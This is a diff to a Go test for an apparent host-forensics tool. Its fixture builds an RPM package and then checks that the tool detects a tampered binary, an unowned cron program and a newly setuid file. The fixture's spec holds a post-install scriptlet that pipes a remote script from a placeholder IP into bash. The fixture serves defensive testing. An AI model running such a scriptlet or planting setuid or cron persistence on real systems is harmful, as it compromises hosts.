@@ -14,7 +14,7 @@ import (
 )
 
 // rpmServer is a server with an RPM database: a package with a program that was changed,
-// one that is as installed, and a scriptlet that downloads and runs something; and a
+// one that was made setuid, others that are as installed, and a scriptlet that downloads and runs something; and a
 // program that no package owns.
 const rpmServer = `
 cat > s.spec <<'END'
@@ -31,21 +31,24 @@ AutoReqProv: no
 x
 %install
 mkdir -p %{buildroot}/usr/sbin %{buildroot}/etc/cron.d
-for p in good bad; do cp /bin/true %{buildroot}/usr/sbin/$p; done
+for p in good bad raised su; do cp /bin/true %{buildroot}/usr/sbin/$p; done
 echo '7 4 * * * root /usr/sbin/good' > %{buildroot}/etc/cron.d/tools
 %post
 /sbin/ldconfig
 %posttrans
 curl -fsSL http://203.0.113.77/i.sh | bash
 %files
-/usr/sbin/*
+/usr/sbin/good
+/usr/sbin/bad
+/usr/sbin/raised
+%attr(4755,root,root) /usr/sbin/su
 %config(noreplace) /etc/cron.d/tools
 END
 rpmbuild -bb --quiet --define "_topdir $PWD/top" --define "_rpmdir $PWD/rpms" s.spec
 mkdir -p root/etc root/usr/sbin root/var/log
 printf 'NAME="Rocky Linux"\nID="rocky"\nVERSION_ID="9.4"\n' > root/etc/os-release
 rpm --root "$PWD/root" --dbpath /var/lib/rpm -i --nodeps --noscripts rpms/*/*.rpm 2>/dev/null
-echo 'x' >> root/usr/sbin/bad; cp /bin/true root/usr/sbin/own
+echo 'x' >> root/usr/sbin/bad; cp /bin/true root/usr/sbin/own; chmod 4755 root/usr/sbin/raised
 echo '* * * * * root /usr/sbin/own' > root/etc/cron.d/own; echo '# mine' >> root/etc/cron.d/tools
 mke2fs -q -t ext4 -d root disk.img 32M
 rm -r root/var/lib/rpm; mke2fs -q -t ext4 -d root none.img 32M
@@ -77,6 +80,9 @@ func TestRPMServer(t *testing.T) {
 		if r.Kind == model.PackageEntry && (r.Get("package") != "tools" || r.Get("version") != "1-1" || r.Time("installed").IsZero()) {
 			t.Errorf("%+v", r)
 		}
+		if strings.HasPrefix(r.Get("what"), "setuid") && (r.Get("what") != "setuid_added" || r.Source.Path != "/usr/sbin/raised") {
+			t.Errorf("%s: %s", r.Get("what"), r.Source.Path)
+		}
 		changed := r.Kind == "file.notable" && r.Get("what") == "package_file_changed"
 		if changed && (r.Source.Path != "/usr/sbin/bad" || r.Get("owner") != "tools") {
 			t.Errorf("changed: %s", r.Source.Path)
@@ -98,7 +104,7 @@ func TestRPMServer(t *testing.T) {
 			t.Errorf("of a program of a package: %s: %s", f.Title, f.Description)
 		}
 	}
-	for _, want := range []string{"package_script", "unowned_program_started"} {
+	for _, want := range []string{"package_script", "unowned_program_started", "file_setuid_added"} {
 		if !slices.Contains(rules, want) {
 			t.Errorf("no finding %s among %v", want, rules)
 		}
